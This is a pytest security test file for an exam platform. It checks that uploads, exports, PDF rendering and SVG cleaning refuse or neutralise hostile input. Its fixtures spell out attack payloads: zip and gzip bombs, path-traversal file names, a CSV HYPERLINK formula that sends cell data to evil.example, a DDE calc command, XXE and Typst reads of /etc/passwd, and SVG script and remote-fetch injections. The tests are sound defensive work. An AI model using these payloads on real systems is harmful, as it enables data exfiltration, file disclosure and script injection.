"""Files that come in and files that go out: bombs, disguises, names with paths; formulas and typst code in names."""

import gzip
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from exam.model import Attempt, EmergencyFile, Enrolment
from itembank.errors import ItemBankError
from itembank.media import clean_media
from registry.model import Site, Teacher
from registry.roles import Role
from testing_platform.exports import Table, as_csv, as_xlsx
from tests.attacks.lab import Lab
from tests.web.conftest import Browser

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
TYPST = '#eval("1") #read("/etc/passwd") #import "@preview/x:1.0.0" $ x $ ] #panic("broken") \\ <label> @ref // `raw`'
NAMES = (
    "../../etc/cron.d/x",
    "..\\..\\x.csv",
    "/etc/passwd",
    "a\r\nX: y.csv",
    "x" * 400 + ".csv",
    "<img src=x onerror=alert(1)>.csv",
)


def zip_bomb() -> bytes:
    """Ten megabytes of nothing in a few kilobytes, with a path that climbs."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../tmp/evil", b"0" * 10_000_000)
    return made.getvalue()


# Below half a megabyte each: beyond it uploads lie in temporary files.
FILES: dict[str, bytes] = {
    "a zip bomb": zip_bomb(),
    "a gzip bomb": gzip.compress(b"0" * 10_000_000),
    "a workbook": b"PK\x03\x04" + b"\0" * 100,
    "entities": b'<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaa"><!ENTITY c "&a;&a;&a;">]><b>&c;</b>',
    "one endless line": b"a," * 200_000,
    "a million lines": b"a\n" * 200_000,
    "an endless cell": b'nuptk,nama\n"' + b"x" * 400_000,
    "zero bytes": b"nuptk,nama\n\0\0,\0",
    "no UTF-8": b"nuptk,nama\n\xff\xfe\xfa,\xff",
    "deep JSON": b"[" * 100_000,
    "a huge number": b'{"format":' + b"9" * 100_000 + b"}",
    "nothing": b"",
}


def sent(browser: Browser, path: str, content: bytes, name: str = "x.csv") -> int:
    """Upload a file the way pages do."""
    part = f'--b\r\nContent-Disposition: form-data; name="{field_of(path)}"; filename="{name}"\r\n\r\n'.encode()
    token = f'\r\n--b\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{browser.csrf_token()}'.encode()
    kind = "multipart/form-data; boundary=b"
    return browser.post(path, data=part + content + token + b"\r\n--b--\r\n", content_type=kind).status_code


def field_of(path: str) -> str:
    """The field in which a page takes its file."""
    return {"impor": "list", "peserta": "roster"}.get(path.rpartition("/")[2], "file")


@pytest.mark.parametrize("what", FILES)
def test_files_that_are_something_else_are_refused_in_words(lab: Lab, what: str) -> None:
    manager, proctor = lab.staff(Role.BANK_MANAGER, "manager"), lab.staff(Role.PROKTOR, "proctor")
    assert sent(manager, "/admin/guru/impor", FILES[what]) == 422
    assert sent(manager, f"/sesi/{lab.sitting}/peserta", FILES[what]) == 422
    assert sent(proctor, f"/ruang/{lab.sitting}/berkas-darurat", FILES[what]) == 422
    assert sent(lab.browser(), "/tanda-terima/", FILES[what]) == 422


@pytest.mark.parametrize("name", NAMES)
def test_the_name_of_a_file_is_only_a_name(lab: Lab, name: str, tmp_path: Path) -> None:
    before = {path for path in tmp_path.rglob("*") if "-wal" not in path.name and "-shm" not in path.name}
    manager, proctor = lab.staff(Role.BANK_MANAGER, "manager"), lab.staff(Role.PROKTOR, "proctor")
    for browser, path in (
        (manager, "/admin/guru/impor"),
        (manager, f"/sesi/{lab.sitting}/peserta"),
        (proctor, f"/ruang/{lab.sitting}/berkas-darurat"),
    ):
        answer = browser.submit(path, {field_of(path): (io.BytesIO(b"kolom\nx\n"), name)})
        assert answer.status_code in {400, 422}
        assert "<img src=x" not in answer.get_data(as_text=True)
    after = {path for path in tmp_path.rglob("*") if "-wal" not in path.name and "-shm" not in path.name}
    assert after == before
    with lab.database.reading() as session:
        assert session.scalars(select(EmergencyFile)).all() == []


def test_names_that_are_formulas_stay_text_in_every_table(lab: Lab) -> None:
    with lab.database.transaction() as session:
        for teacher in session.scalars(select(Teacher)):
            teacher.full_name = teacher.school = FORMULA
    manager = lab.staff(Role.BANK_MANAGER, "manager")
    table = manager.get(f"/sesi/{lab.sitting}/peserta.csv").get_data(as_text=True)
    assert "HYPERLINK" in table
    assert not re.search(r'(^|,|")[=+\-@]', table.replace("'=", ""), re.MULTILINE)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n="])
def test_no_cell_begins_like_a_formula(start: str) -> None:
    cells: list[Any] = [start + "1+1", start + "cmd|' /C calc'!A0"]
    written = as_csv(Table("t", ["a", "b"], [cells])).decode("utf-8-sig")
    assert all(cell.strip('"').startswith("'") for cell in re.split(r",(?=['\"])", written.split("\r\n", 1)[1].strip()))
    workbook = zipfile.ZipFile(io.BytesIO(as_xlsx(Table("t", ["a", "b"], [cells]), notes_title="n")))
    assert b"<f>" not in workbook.read("xl/worksheets/sheet1.xml")


def test_names_that_are_typst_code_are_printed_as_they_are(lab: Lab) -> None:
    one = lab.candidates[0]
    lab.seat(one)
    with lab.database.transaction() as session:
        for teacher in session.scalars(select(Teacher)):
            teacher.full_name = teacher.school = TYPST
        sitting = lab.sitting_row(session)
        sitting.title = sitting.room = TYPST
        session.scalars(select(Site)).first().name = TYPST  # type: ignore[union-attr]
    proctor, manager = lab.staff(Role.PROKTOR, TYPST), lab.staff(Role.BANK_MANAGER, "manager")
    room = f"/ruang/{lab.sitting}"
    for paper in ("daftar-hadir.pdf", "berita-acara.pdf"):
        answer = proctor.get(f"{room}/{paper}")
        assert (answer.status_code, answer.data[:5]) == (200, b"%PDF-")
        assert answer.headers["Cache-Control"] == "no-store"
    cards = manager.submit(f"/sesi/{lab.sitting}/kartu", {"who": "all", "understood": "1"})
    assert (cards.status_code, cards.data[:5]) == (200, b"%PDF-")


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'
DRAWINGS = (
    "<script>alert(1)</script>",
    '<rect onload="alert(1)" width="1" height="1"/>',
    '<image x:href="http://evil.example/x.png"/>',
    '<a x:href="javascript:alert(1)"><rect width="1" height="1"/></a>',
    "<foreignObject><iframe src='http://evil.example'/></foreignObject>",
    '<use x:href="http://evil.example/x.svg#a"/>',
    '<rect style="fill:url(http://evil.example/x)"/>',
    '<style>@import "http://evil.example/x.css";</style>',
    '<animate attributeName="href" values="javascript:alert(1)"/>',
    '<set attributeName="onload" to="alert(1)"/>',
)


@pytest.mark.parametrize("drawing", DRAWINGS)
def test_drawings_that_act_or_reach_out_do_not_enter_the_bank(drawing: str) -> None:
    try:
        kept = clean_media(SVG.format(drawing).encode()).data
    except ItemBankError:
        return
    assert not re.search(rb"script|onload|evil|javascript|import", kept)


def test_pictures_are_what_their_bytes_say_and_bombs_are_not_unpacked() -> None:
    bomb = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x01\x86\xa0\x00\x01\x86\xa0\x08\x02\x00\x00\x00" + b"\0" * 40
    entities = '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + SVG.format("<text>&a;</text>")
    for content in (bomb, b"GIF89a" + b"\0" * 50, b"<html><script>1</script>", entities.encode(), zip_bomb()):
        with pytest.raises(ItemBankError):
            clean_media(content)


def test_personal_papers_need_their_room(lab: Lab) -> None:
    assert lab.browser().get(f"/ruang/{lab.sitting}/daftar-hadir.pdf").status_code == 302
    with lab.database.reading() as session:
        assert session.scalars(select(Enrolment)).all()
        assert session.scalars(select(Attempt)).all() == []
